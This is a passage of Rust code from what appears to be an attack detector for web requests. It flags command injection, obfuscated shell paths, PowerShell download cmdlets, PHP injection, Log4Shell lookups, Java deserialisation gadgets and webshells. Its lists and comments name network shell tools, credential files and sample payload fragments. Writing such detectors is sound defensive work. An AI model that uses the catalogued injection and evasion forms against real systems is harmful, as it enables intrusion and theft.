            if after.starts_with("-c") || v == "$0 -c" {
                return Some((0.85, "shell variable run with -c"));
            }
        }
    }
    // PowerShell: cmdlets and aliases that download or run code.
    if let Some(v) = powershell(&f) {
        return Some(v);
    }
    // Command after a separator: ; | || && ` $( newline
    let b = f.as_bytes();
    let seps: &[&str] = &[";", "|", "&", "`", "$(", "\n", "\r", "${", "<(", ">("];
    // Every separator starts with one of these bytes.
    let has_sep = f.bytes().any(|c| {
        matches!(
            c,
            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>'
        )
    });
    for sep in seps.iter().filter(|_| has_sep) {
        for (i, _) in f.match_indices(sep) {
            let mut rest = f[i + sep.len()..].trim_start_matches(|c: char| {
                c == '|' || c == '&' || c == ' ' || c == '\t' || c == '{' || c == '('
            });
            // `;/bin/cat`, `;/usr/bin/id`, `|/???/c?t`
            if rest.starts_with('/')
                && (rest.starts_with("/bin/")
                    || rest.starts_with("/usr/")
                    || rest.starts_with("/???")
                    || rest.starts_with("/sbin/")
                    || rest.starts_with("/?"))
            {
                return Some((0.9, "command path after separator"));
            }
            rest = rest.trim_start_matches(['"', '\'']);
            let word: String = rest
                .chars()
                .take_while(|c| {
                    c.is_ascii_alphanumeric()
                        || matches!(c, '.' | '_' | '-' | '/' | '\\' | '?' | '*')
                })
                .collect();
            if !word.is_empty()
                && (is_strong_command(&word)
                    || is_command(&word) && command_line_tail(&rest[word.len()..]))
            {
                let after = &rest[word.len()..];
                let args = after.is_empty()
                    || after.starts_with([
                        ' ', '\t', '+', '<', '>', '|', ';', '&', '`', ')', '$', '-', '"', '\'',
                        '\n', '}', '/', ',',
                    ]);
                // `a=1&id=2`: `&` followed by a parameter, not a command.
                let is_param = *sep == "&" && after.starts_with('=');
                if args
                    && !is_param
                    && !(i > 0
                        && *sep == "&"
                        && b.get(i - 1).is_some_and(|c| c.is_ascii_alphanumeric())
                        && after.is_empty())
                {
                    return Some((0.9, "command after shell separator"));
                }
            }
        }
    }
    // Whole value is a command with shell-looking arguments (`cat /etc/passwd`, `wget http://…|sh`).
    let first: String = f
        .trim_start()
        .chars()
        .take_while(|c| !c.is_whitespace())
        .collect();
    // A wrapper running a program: `time sh -c id`, `nice -n 5 nc …`, `env perl -e …`.
    if WRAPPERS.contains(&command_base(&first)) {
        let rest = f.trim_start()[first.len()..].trim_start();
        let next = rest
            .split_whitespace()
            .find(|w| !w.starts_with('-') && !w.bytes().all(|c| c.is_ascii_digit()));
        if next.is_some_and(|w| {
            let after = rest.split_once(w).map(|x| x.1).unwrap_or("");
            is_strong_command(w) || is_command(w) && command_line_tail(after)
        }) {
            return Some((0.8, "command run by a wrapper"));
        }
    }
    if is_command(&first) && first.len() > 1 {
        let rest = f.trim_start()[first.len()..].trim_start();
        if rest.starts_with('-') && rest.len() > 1 && (rest.contains(' ') || rest.len() < 4)
            || rest.starts_with('/') && rest.len() > 1
            || rest.contains("http://")
                && (rest.contains('|') || rest.contains(';') || rest.contains("-o"))
            || rest.contains("/dev/tcp")
        {
            return Some((0.75, "command line"));
        }
    }
    if f.contains("/dev/tcp/")
        || f.contains("/bin/sh")
        || f.contains("/bin/bash")
        || f.contains("cmd.exe")
        || f.contains("cmd /c")
        || f.contains("powershell -")
        || f.contains("powershell.exe")
        || f.contains("nc -e")
    {
        return Some((0.85, "shell invocation"));
    }
    None
}

/// Bash brace expansion that spells a command: `{cat,/etc/passwd}` runs
/// `cat /etc/passwd`; `c{a,oun}t` and `{l,-lh}s` build command words from
/// pieces. Each `{…,…}` group (no spaces, at most [`MAX_BRACE_ITEMS`] items)
/// is expanded with the word it is glued to, and a strong command word (or
/// a known command as the group's first item, followed by an argument)
/// counts.
fn brace_expansion(f: &str) -> Option<(f32, &'static str)> {
    const MAX_BRACE_ITEMS: usize = 8;
    let mut from = 0;
    while let Some(o) = f[from..].find('{').map(|o| o + from) {
        from = o + 1;
        let Some(c) = f[o..].find('}').map(|c| c + o) else {
            break;
        };
        let inner = &f[o + 1..c];
        if !inner.contains(',') || inner.contains([' ', '{', '$', '"', ':']) {
            continue;
        }
        let items: Vec<&str> = inner.split(',').collect();
        if items.len() > MAX_BRACE_ITEMS {
            continue;
        }
        let is_word = |ch: char| ch.is_ascii_alphanumeric() || ch == '_' || ch == '-';
        let pre_start = f[..o]
            .char_indices()
            .rev()
            .find(|(_, ch)| !is_word(*ch))
            .map(|(i, ch)| i + ch.len_utf8())
            .unwrap_or(0);
        let pre = &f[pre_start..o];
        let suf_end = f[c + 1..]
            .char_indices()
            .find(|(_, ch)| !is_word(*ch))
            .map(|(i, _)| c + 1 + i)
            .unwrap_or(f.len());
        let suf = &f[c + 1..suf_end];
        // `{cat,/etc/passwd}`: the first item is the program, the rest its arguments.
        if pre.is_empty()
            && items.len() >= 2
            && (is_strong_command(items[0]) && items[1..].iter().any(|a| !a.is_empty())
                || is_command(items[0]) && items[1..].iter().any(|a| a.starts_with(['-', '/'])))
        {
            return Some((0.85, "brace expansion command"));
        }
        for it in &items {
            let word = format!("{pre}{it}{suf}");
            if word.len() > 1 && is_strong_command(&word) && !it.is_empty() {
                return Some((0.8, "brace expansion command"));
            }
        }
    }
    None
}

/// Paths that a shell glob (`?`, `*`, `[a-z]`, `[!q]`) turns into a shell
/// or a system file: `/usr/[a-z]in/bash`, `/etc/[!q]asswd`, `/???/c?t`.
/// Each glob path in the value is matched against [`GLOB_TARGETS`].
fn glob_path(f: &str) -> Option<(f32, &'static str)> {
    if !f.contains(['?', '*', '[']) || !f.contains('/') {
        return None;
    }
    for tok in f.split([
        ' ', '\t', ';', '|', '&', '\'', '"', '(', ')', '`', '<', '>', '=',
    ]) {
        if !tok.starts_with('/') || !tok.contains(['?', '*', '[']) || tok.len() > 64 {
            continue;
        }
        if GLOB_TARGETS
            .iter()
            .any(|t| glob_match(tok.as_bytes(), t.as_bytes()))
        {
            return Some((0.85, "glob path to shell or system file"));
        }
    }
    None
}

/// What globbed paths in attacks resolve to (shells, fetchers, account files).
const GLOB_TARGETS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/dash",
    "/bin/cat",
    "/bin/nc",
    "/usr/bin/bash",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "/usr/bin/python",
    "/usr/bin/perl",
    "/usr/bin/nc",
    "/usr/bin/cat",
    "/usr/sbin/bash",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
];

/// Shell-glob match of `pat` (`?`, `*`, `[…]`, `[!…]`, `[^…]` with ranges)
/// against the whole of `text`. Iterative with one backtrack point for `*`.
fn glob_match(pat: &[u8], text: &[u8]) -> bool {
    let (mut p, mut t) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        let step = match pat.get(p) {
            Some(b'*') => {
                star = Some((p, t));
                p += 1;
                continue;
            }
            Some(b'?') => Some(p + 1),
            Some(b'[') => match class_match(&pat[p..], text[t]) {
                Some((ok, len)) => ok.then_some(p + len),
                None => (text[t] == b'[').then_some(p + 1),
            },
            Some(c) => (*c == text[t]).then_some(p + 1),
            None => None,
        };
        match step {
            Some(np) => {
                p = np;
                t += 1;
            }
            None => match star {
                Some((sp, st)) => {
                    p = sp + 1;
                    t = st + 1;
                    star = Some((sp, st + 1));
                }
                None => return false,
            },
        }
    }
    pat[p..].iter().all(|c| *c == b'*')
}

/// A `[…]` class at the start of `pat`: (whether `c` matches, the class's length).
fn class_match(pat: &[u8], c: u8) -> Option<(bool, usize)> {
    let end = pat.iter().skip(2).position(|x| *x == b']')? + 2;
    let body = &pat[1..end];
    let (neg, body) = match body.first() {
        Some(b'!' | b'^') => (true, &body[1..]),
        _ => (false, body),
    };
    let mut hit = false;
    let mut i = 0;
    while i < body.len() {
        if body.get(i + 1) == Some(&b'-') && i + 2 < body.len() {
            hit |= (body[i]..=body[i + 2]).contains(&c);
            i += 3;
        } else {
            hit |= body[i] == c;
            i += 1;
        }
    }
    Some((hit != neg, end + 1))
}

/// PowerShell cmdlets and aliases that fetch or run code (`iex (iwr …)`,
/// `Invoke-Expression`, `-EncodedCommand`), as words of a lower-cased value.
fn powershell(f: &str) -> Option<(f32, &'static str)> {
    const CMDLETS: &[&str] = &[
        "invoke-expression",
        "invoke-webrequest",
        "invoke-restmethod",
        "invoke-wmimethod",
        "invoke-command",
        "invoke-item",
        "start-process",
        "start-bitstransfer",
        "new-object net.webclient",
        "new-object system.net.webclient",
        "downloadstring(",
        "downloadfile(",
        "frombase64string(",
        "set-mppreference",
        "add-mppreference",
        "get-wmiobject",
        "-encodedcommand",
        "-executionpolicy bypass",
    ];
    if CMDLETS.iter().any(|c| f.contains(c)) {
        return Some((0.85, "PowerShell cmdlet"));
    }
    // Short aliases only as a command word followed by a command-line shape:
    // `;iex (…)`, `iwr http://…`, `iwmi -class …`.
    let mut from = 0;
    while let Some(i) = f[from..].find(['i', 's', 'p']).map(|i| i + from) {
        let word_start = i == 0 || f[..i].ends_with([';', '|', '&', '(', ' ', '\n', '`']);
        let tail = &f[i..];
        from = i + 1;
        if word_start {
            for a in ["iex", "iwr", "irm", "iwmi", "saps", "pwsh"] {
                if let Some(after) = tail.strip_prefix(a)
                    && [" (", " http", " -", " c:", " $"]
                        .iter()
                        .any(|p| after.starts_with(p))
                {
                    return Some((0.8, "PowerShell alias"));
                }
            }
        }
    }
    None
}

const PHP_FUNCS: &[&str] = &[
    "eval",
    "assert",
    "system",
    "passthru",
    "shell_exec",
    "exec",
    "popen",
    "proc_open",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fwrite",
    "fputs",
    "include",
    "include_once",
    "require",
    "require_once",
    "preg_replace",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "phpinfo",
    "chr",
    "pcntl_exec",
    "move_uploaded_file",
    "unserialize",
    "readfile",
    "show_source",
    "highlight_file",
    "var_dump",
    "print_r",
    "array_map",
    "array_filter",
    "usort",
    "uasort",
    "ob_start",
    "posix_getpwuid",
    "symlink",
    "ini_set",
    "set_time_limit",
    "getenv",
    "putenv",
    "curl_exec",
    "fsockopen",
    "pfsockopen",
    "mail",
    "dl",
    "scandir",
    "glob",
    "opendir",
    "unlink",
    "rmdir",
    "mkdir",
    "copy",
    "rename",
    "chmod",
    "touch",
    "file",
    "parse_str",
    "extract",
    "mb_ereg_replace",
    "iconv",
    "hex2bin",
    "strrev",
    "gzdecode",
    "md5",
    "die",
    "exit",
    // Decoders that unpack hidden payloads, execution and reconnaissance
    // helpers seen in webshells and PHP exploit chains.
    "bzdecompress",
    "zlib_decode",
    "convert_uudecode",
    "curl_init",
    "stream_socket_client",
    "socket_create",
    "get_defined_functions",
    "get_defined_vars",
    "get_defined_constants",
    "get_cfg_var",
    "ini_get_all",
    "php_uname",
    "posix_getuid",
    "posix_geteuid",
    "posix_getegid",
    "posix_getgid",
    "posix_uname",
    "posix_kill",
    "posix_setuid",
    "proc_nice",
    "proc_terminate",
    "escapeshellcmd",
    "register_shutdown_function",
    "register_tick_function",
    "forward_static_call",
    "array_walk",
    "apache_setenv",
    "mb_send_mail",
    "imap_open",
    "error_log",
    "file_exists",
    "is_writable",
    "fputcsv",
    "ob_get_contents",
    "gethostbyname",
    "disk_free_space",
    "readlink",
    "chown",
    "lchown",
    "tmpfile",
    "tempnam",
];

static PHP_VAR_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|[^\w$])@?\$+[a-z_][a-z0-9_]{0,30}\s*(?:\[[^\]]{0,40}\]\s*)*\(\s*(?:\d|['"$)])"#,
    )
    .ok()
});

static PHP_DYN_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r#"\(\s*(?:\(\s*string\s*\)\s*)?["']?[a-z_][a-z0-9_]*["']?(?:\s*\.\s*\(?\s*["']?[a-z0-9_]+["']?\s*\)?)*\s*\)\s*\(\s*["'$]"#).ok()
});

static PHP_VARVAR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"\$\s*\{\s*(?:['"][^'"]*['"]\s*(?:\.\s*['"][^'"]*['"]\s*)*|\$[a-z_][a-z0-9_]*\s*)\}"#,
    )
    .ok()
});

/// PHP / code injection on a decoded, lower-cased value.
pub fn php(l: &str) -> Option<(f32, &'static str)> {
    // `<? … ?>` unless it is an XML declaration or processing instruction (`<?xml …?>`).
    let pi = l.contains("?>")
        && l.match_indices("<?")
            .any(|(i, _)| !l[i + 2..].starts_with("xml"));
    if l.contains("<?php") || l.contains("<?=") || pi {
        return Some((0.95, "PHP open tag"));
    }
    // `<? php …`, `<?\tphp`, short open tags followed by a statement (`<? echo …`).
    for (i, _) in l.match_indices("<?") {
        let rest = l[i + 2..].trim_start_matches([' ', '\t', '\n', '\r']);
        let ws = rest.len() < l.len() - i - 2;
        let word: &str = rest
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .next()
            .unwrap_or("");
        if ws && (word == "php" || PHP_FUNCS.contains(&word) || word == "echo" || word == "print") {
            return Some((0.85, "PHP open tag"));
        }
    }
    // A php.ini directive set in a value (`auto_prepend_file=…` through
    // PHP-CGI's `-d`, a `.user.ini` upload or `ini_set` gadgets): our list
    // of the directives that load code, open files or lift limits.
    if l.contains('=') {
        for d in PHP_INI {
            if let Some(i) = l.find(d)
                // At the start of the value, of a line or statement, or after `-d`.
                && (i == 0
                    || matches!(
                        l.as_bytes().get(i - 1),
                        Some(b'\n' | b';' | b'"' | b'\'' | b'&')
                    )
                    || l[..i].trim_end().ends_with("-d"))
                && l[i + d.len()..].trim_start().starts_with('=')
            {
                return Some((0.7, "php.ini directive"));
            }
        }
    }
    // Template and forum tags that run PHP (Smarty `{php}`, BBCode-style `[php]`).
    for t in ["{php}", "{/php}", "[php]", "[/php]"] {
        if l.contains(t) {
            return Some((0.8, "PHP template tag"));
        }
    }
    // Superglobals start with `$`; the settings and wrappers have `_` or `:`.
    let names = if l.contains(['$', '_', ':']) { 17 } else { 0 };
    for v in [
        "$_get",
        "$_post",
        "$_request",
        "$_server",
        "$_cookie",
        "$_files",
        "$_env",
        "$_session",
        "$globals",
        "php://input",
        "php://filter",
        "allow_url_include",
        "auto_prepend_file",
        "auto_append_file",
        "disable_functions",
        "safe_mode",
        "open_basedir",
    ]
    .iter()
    .take(names)
    {
        if l.contains(v) {
            return Some((0.85, "PHP superglobal or setting"));
        }
    }
    // Serialized PHP objects: O:8:"stdClass":1:{…}
    let b = l.as_bytes();
    for (i, _) in l.match_indices("o:") {
        if (i == 0 || !b[i - 1].is_ascii_alphanumeric())
            && b.get(i + 2).is_some_and(|c| c.is_ascii_digit())
            && l[i..].contains(":{")
            && l[i..].contains("\":")
        {
            return Some((0.85, "serialized PHP object"));
        }
    }
    // `gzuncompress/*x*/(…)`: PHP ignores comments between a name and `(`.
    let folded;
    let l = if l.contains("/*") {
        folded = strip_c_comments(l);
        folded.as_str()
    } else {
        l
    };
    for (i, _) in l.match_indices('(') {
        let head = &l[..i];
        let head = head.trim_end();
        let w_start = head
            .char_indices()
            .rev()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '_'))
            .map(|(p, c)| p + c.len_utf8())
            .unwrap_or(0);
        let w = &head[w_start..];
        if PHP_FUNCS.contains(&w) {
            let prev = head[..w_start].trim_end();
            let ctx_ok = prev.is_empty()
                || prev.ends_with([
                    ';', '@', '(', '.', '=', '{', '}', '?', '>', ',', '"', '\'', '|', '&', '!',
                ])
                || prev.ends_with("echo")
                || prev.ends_with("print")
                || prev.ends_with("return");
            let arg = l[i + 1..].trim_start();
            // A name that is no English word ending the value (`base64_decode(`):
            // a payload cut short or probed for a filter.
            let bare = arg.is_empty() && w.contains('_');
            let arg_ok = bare
                || arg.starts_with(['$', '"', '\'', '(', ')', '@', '_'])
                || arg.starts_with(|c: char| c.is_ascii_alphabetic())
                    && (arg.contains('(') || arg.contains(')'));
            if ctx_ok
                && arg_ok
                && !matches!(
                    w,
                    "file"
                        | "copy"
                        | "die"
                        | "exit"
                        | "md5"
                        | "mail"
                        | "glob"
                        | "chr"
                        | "touch"
                        | "rename"
                )
            {
                return Some((0.85, "PHP function call"));
            }
        }
    }
    // A variable called as a function (`$a(1)`, `$$b(2)`, `@$__['o'](4)`): PHP
    // grammar, `$name [ [index] ]* (`.
    if PHP_VAR_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
        return Some((0.75, "PHP variable function call"));
    }
    // A string expression called as a function: `("sys"."tem")('id')`, `(system)('id')`.
    if PHP_DYN_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
        return Some((0.75, "PHP dynamic function call"));
    }
    // Variable variables with a quoted or variable name: `${'a'}`, `$ {$b}`.
    if PHP_VARVAR.as_ref().is_some_and(|r| r.is_match(l)) {
        return Some((0.6, "PHP variable variable"));
    }
    // Variable functions: $x($y), ${…}
    if l.contains("$")
        && (l.contains(")(") || l.contains("${") && l.contains('}') && l.contains('('))
        && (l.contains(';') || l.contains('"'))
    {
        return Some((0.6, "PHP variable function"));
    }
    None
}

/// php.ini directives that change what code runs or what it may reach
/// (from the PHP manual's ini list), or tune engine internals only an
/// attacker sets from a request (`opcache.`, `mbstring.` limits).
const PHP_INI: &[&str] = &[
    "allow_url_fopen",
    "allow_url_include",
    "auto_prepend_file",
    "auto_append_file",
    "open_basedir",
    "disable_functions",
    "disable_classes",
    "extension_dir",
    "zend_extension",
    "extension",
    "include_path",
    "sendmail_path",
    "session.save_path",
    "upload_tmp_dir",
    "user_ini.filename",
    "phar.readonly",
    "short_open_tag",
    "register_globals",
    "memory_limit",
    "max_execution_time",
    "unserialize_max_depth",
    "opcache.",
    "mbstring.",
    "pcre.backtrack_limit",
    "pcre.jit",
];

/// `s` without its `/* … */` comments (an unclosed one runs to the end).
fn strip_c_comments(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("/*") {
        out.push_str(&rest[..i]);
        rest = match rest[i + 2..].find("*/") {
            Some(j) => &rest[i + 2 + j + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    out
}

/// Log4Shell lookups with nested obfuscation folded: `${lower:j}` → `j`,
/// `${::-j}` → `j`, `${env:X:-j}` → `j`, `${upper:J}` → `j`. Lower-cased input.
pub fn fold_lookups(l: &str) -> String {
    let mut s = l.to_owned();
    for _ in 0..8 {
        let Some(start) = find_inner_lookup(&s) else {
            break;
        };
        let Some(len) = s[start..].find('}') else {
            break;
        };
        let inner = &s[start + 2..start + len];
        let repl = if let Some(p) = inner.rfind(":-") {
            inner[p + 2..].to_owned()
        } else if let Some(x) = inner
            .strip_prefix("lower:")
            .or_else(|| inner.strip_prefix("upper:"))
        {
            x.to_owned()
        } else if let Some(x) = inner.strip_prefix("jndi:") {
            // Keep jndi lookups; mark so the loop ends.
            format!("\u{1}jndi:{x}")
        } else if let Some(x) = inner.strip_prefix("date:") {
            x.trim_matches('\'').to_owned()
        } else {
            inner.to_owned()
        };
        s.replace_range(start..start + len + 1, &repl);
    }
    s.replace('\u{1}', "${")
}

/// Start of a `${…}` with no `${` inside it.
fn find_inner_lookup(s: &str) -> Option<usize> {
    let mut best = None;
    for (i, _) in s.match_indices("${") {
        let close = s[i..].find('}')?;
        if !s[i + 2..i + close].contains("${") && !s[i + 2..].starts_with("jndi:") {
            best = Some(i);
            break;
        }
    }
    best
}

/// Gadget class names of the public Java deserialisation chains (ysoserial:
/// commons-collections transformers and closures, Groovy, Spring, JDK).
const GADGETS: &[&str] = &[
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "instantiatetransformer",
    "invokertransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "chainedtransformer",
    "constanttransformer",
    "lazymap",
    "transformedmap",
    "templatesimpl",
    "annotationinvocationhandler",
    "badattributevalueexpexception",
    "methodclosure",
    "convertedclosure",
    "mozilla.javascript",
];

static JAVA_GADGETS: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| aho_corasick::AhoCorasick::new(GADGETS).ok());

/// Packages whose classes have no business in a request parameter; a value
/// naming one of their classes (`java.io.FileInputStream`) is an attempt to
/// have a deserialiser or expression engine load it.
const JAVA_PACKAGES: &[&str] = &[
    "java.io.",
    "java.net.",
    "java.nio.",
    "java.rmi.",
    "java.beans.",
    "java.util.",
    "java.security.",
    "javax.",
    "org.omg.",
    "org.apache.commons",
    "org.apache.xalan",
    "org.codehaus.groovy",
    "com.opensymphony.xwork2",
    "com.sun.",
    "sun.reflect",
    "sun.rmi",
    "jdk.internal",
];

/// Whether the package `p` found in `l` is followed by an identifier (a class
/// or sub-package), i.e. a qualified name, not prose ending in `java.`.
fn java_fqcn_after(l: &str, p: &str) -> bool {
    l.match_indices(p).any(|(i, m)| {
        l[i + m.len()..]
            .bytes()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic())
            || !p.ends_with('.')
    })
}

/// Base64 (standard alphabet) of `b` as it appears at each of the three byte
/// alignments inside a longer encoded blob: only the characters that depend
/// on `b` alone.
pub fn base64_alignments(b: &[u8]) -> Vec<String> {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..3usize)
        .map(|k| {
            let mut v = vec![0u8; k];
            v.extend_from_slice(b);
            let bits = v.len() * 8;
            let full = bits / 6;
            let start = (k * 8).div_ceil(6);
            (start..full)
                .map(|i| {
                    let mut x = 0u32;
                    for j in 0..6 {
                        let bit = i * 6 + j;
                        let byte = v[bit / 8];
                        x = (x << 1) | ((byte >> (7 - bit % 8)) & 1) as u32;
                    }
                    A[x as usize] as char
                })
                .collect()
        })
        .collect()
}

/// Base64 of gadget names (lower-case and capitalised) and of the Java
/// serialisation magic `AC ED 00 05`, at every alignment.
static JAVA_B64: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| aho_corasick::AhoCorasick::new(java_b64_patterns()).ok());

/// The patterns of the base64 Java detector (for prefilters that must let them through).
pub fn java_b64_patterns() -> Vec<String> {
    let mut pats: Vec<String> = Vec::new();
    for g in GADGETS
        .iter()
        .chain(["runtime", "processbuilder", "classloader", "java.lang"].iter())
    {
        let mut cap = g.to_string();
        if let Some(f) = cap.get_mut(..1) {
            f.make_ascii_uppercase();
        }
        for w in [g.to_string(), cap] {
            pats.extend(base64_alignments(w.as_bytes()));
        }
    }
    pats.extend(base64_alignments(&[0xac, 0xed, 0x00, 0x05]));
    pats.retain(|p| p.len() >= 5);
    pats
}

/// Java classes, methods and OGNL names of exploits (lower-case).
const JAVA_NAMES: &[&str] = &[
    "java.lang.runtime",
    "java.lang.processbuilder",
    "java.lang.system",
    "java.lang.class",
    "java.lang.reflect",
    "java.io.file",
    "java.net.url",
    "java.net.socket",
    "javax.script",
    "javax.naming",
    "getruntime(",
    ".getruntime",
    "processbuilder",
    "classloader",
    "getclass(",
    "forname(",
    "newinstance(",
    "getmethod(",
    "invoke(",
    "org.apache.commons.collections",
    "invokertransformer",
    "chainedtransformer",
    "constanttransformer",
    "instantiatetransformer",
    "templatesimpl",
    "com.sun.org.apache",
    "org.springframework",
    "xalan",
    "bsh.interpreter",
    "groovy.lang",
    "ognl",
    "#_memberaccess",
    "@ognl",
    "#context",
    "xwork",
    "class.module.classloader",
    "class.classloader",
    "getruntime().exec",
    "runtime.exec",
    "t(java.",
    "jdk.jshell",
    "com.sun.rowset",
    "jdbcrowsetimpl",
    "c3p0",
    "rmiconnector",
    "jndiref",
    "java.util.scanner",
    "java.beans.xmldecoder",
    "xmldecoder",
    "<java",
    "java.lang.",
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "nativeinvoker",
    "java.lang.thread",
    "sun.misc",
    "getdeclaredmethod",
    "getdeclaredfield",
    "setaccessible",
];

/// [`JAVA_NAMES`] in one automaton (each value was searched once per name).
static JAVA_NAMES_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(JAVA_NAMES)
            .ok()
    });

/// [`SENSITIVE_FILES`] in one automaton.
static SENSITIVE_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(SENSITIVE_FILES)
            .ok()
    });

/// Java attacks: JNDI lookups, deserialisation gadgets, OGNL/SpEL, class loading.
pub fn java(raw: &str, l: &str) -> Option<(f32, &'static str)> {
    if l.contains("${") || l.contains("%24%7b") {
        let f = fold_lookups(l);
        if f.contains("${jndi:")
            || f.contains("jndi:ldap")
            || f.contains("jndi:rmi")
            || f.contains("jndi:dns")
        {
            return Some((0.95, "JNDI lookup (Log4Shell)"));
        }
        if f.contains("${")
            && (f.contains("${env:")
                || f.contains("${sys:")
                || f.contains("${java:")
                || f.contains("${main:")
                || f.contains("${ctx:")
                || f.contains("${base64:")
                || f.contains("${bundle:")
                || f.contains("${k8s:")
                || f.contains("${docker:")
                || f.contains("${spring:")
                || f.contains("${log4j:")
                || f.contains("${web:")
                || f.contains("${script:"))
        {
            return Some((0.8, "Log4j lookup"));
        }
    }
    if raw.contains("rO0AB")
        || raw.contains("\u{ac}\u{ed}\u{0}\u{5}")
        || l.contains("aced0005")
        || raw.contains("H4sIAAAAAAAA") && l.contains("ro0")
    {
        return Some((0.9, "Java serialized object"));
    }
    if JAVA_NAMES_AC.as_ref().is_some_and(|a| a.is_match(l)) {
        return Some((0.85, "Java class or method"));
    }
    if (l.contains("%{") || l.contains("${"))
        && (l.contains("#") || l.contains("@java"))
        && l.contains('(')
    {
        return Some((0.8, "OGNL expression"));
    }
    // A dangerous class named with its package (`java.evil.Runtime`, `java.ProcessBuilder`).
    if (l.contains("java.") || l.contains(".java"))
        && (l.contains("runtime") || l.contains("processbuilder") || l.contains("classloader"))
    {
        return Some((0.8, "Java class or method"));
    }
    // Commons-collections/Groovy gadget classes used in an expression (`runtime.whileclosure`).
    if let Some(ac) = JAVA_GADGETS.as_ref()
        && ac.is_match(l)
    {
        return Some((0.8, "Java deserialisation gadget"));
    }
    // Fully qualified names in the packages gadgets and exploits reach for.
    if let Some(p) = JAVA_PACKAGES.iter().find(|p| l.contains(*p))
        && java_fqcn_after(l, p)
    {
        return Some((0.7, "Java class name"));
    }
    if let Some(ac) = JAVA_B64.as_ref()
        && ac.is_match(raw)
    {
        return Some((0.8, "base64 Java gadget or serialized object"));
    }
    // Base64 of "runtime", "processbuilder", "classloader" at the three alignments.
    for k in [
        "cnVudGltZ",
        "J1bnRpbW",
        "ydW50aW1l",
        "HJvY2Vzc2J1aWxkZXI",
        "Byb2Nlc3NCdWlsZGVy",
        "wcm9jZXNzYnVpbGRlc",
        "Y2xhc3Nsb2FkZX",
        "NsYXNzbG9hZGVy",
        "jbGFzc2xvYWRlc",
        "UnVudGltZ",
        "J1bnRpbWU",
        "SdW50aW1l",
        "UHJvY2Vzc0J1aWxkZX",
        "Byb2Nlc3NCdWlsZGVy",
        "Qcm9jZXNzQnVpbGRlc",
    ] {
        if raw.contains(k) {
            return Some((0.8, "base64 Java class name"));
        }
    }
    None
}

/// Webshell access: known names in the path, or a script given a command parameter.
pub fn webshell(path_l: &str, params: &[(String, String)]) -> Option<(f32, &'static str)> {
    let file = path_l.rsplit('/').next().unwrap_or(path_l);
    let script = [
        ".php", ".asp", ".aspx", ".jsp", ".jspx", ".cgi", ".pl", ".ashx", ".cfm", ".phtml",
    ]
    .iter()
    .any(|e| file.ends_with(e));
    // Names match whole words of the file name (`c99.php`, `wso_2.php`), not
    // substrings of hex ids (`b8c30404-…-8c99-…`).
    // Static files (`.js`, `.png`, …) are neither webshells nor commands' targets.
    if !(script || file.is_empty() || !file.contains('.')) {
        return None;
    }
    // A name matches a whole word of the file name, or starts a word when
    // it has 4+ characters; names with `.`/`-` match the file name's start.
    let fb = file.as_bytes();
    let sep = |i: usize| i == 0 || matches!(fb.get(i - 1), Some(b'-' | b'_' | b'.' | b' '));
    let named = WEBSHELL_AC.as_ref().is_some_and(|a| {
        a.find_overlapping_iter(file).any(|m| {
            let n = WEBSHELLS.get(m.pattern().as_usize()).copied().unwrap_or("");
            let word_end =
                m.end() == fb.len() || matches!(fb.get(m.end()), Some(b'-' | b'_' | b'.' | b' '));
            if n.contains(['.', '-']) {
                m.start() == 0 || sep(m.start()) && (word_end || n.len() >= 4)
            } else {
                sep(m.start()) && (word_end || n.len() >= 4)
            }
        })
    });
    if named && (script || !file.contains('.')) {
        return Some((0.85, "known webshell name"));
    }
    if script || file.is_empty() || !file.contains('.') {
        for (k, v) in params {
            if SHELL_PARAMS.contains(&k.as_str()) {
                let first = v.split_whitespace().next().unwrap_or("");
                if is_command(first)
                    && (v.contains(' ')
                        || matches!(
                            first,
                            "id" | "whoami"
                                | "ls"
                                | "pwd"
                                | "uname"
                                | "ipconfig"
                                | "ifconfig"
                                | "dir"
                                | "hostname"
                        ))
                {
                    return Some((0.85, "command in webshell parameter"));
                }
            }
        }
    }
    None
}

fn ac(pats: &[&str]) -> Option<aho_corasick::AhoCorasick> {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(pats)
        .ok()
}

/// One automaton per list: a line's user agent and path are each scanned
/// once instead of once per list entry (this was a quarter of the run time).
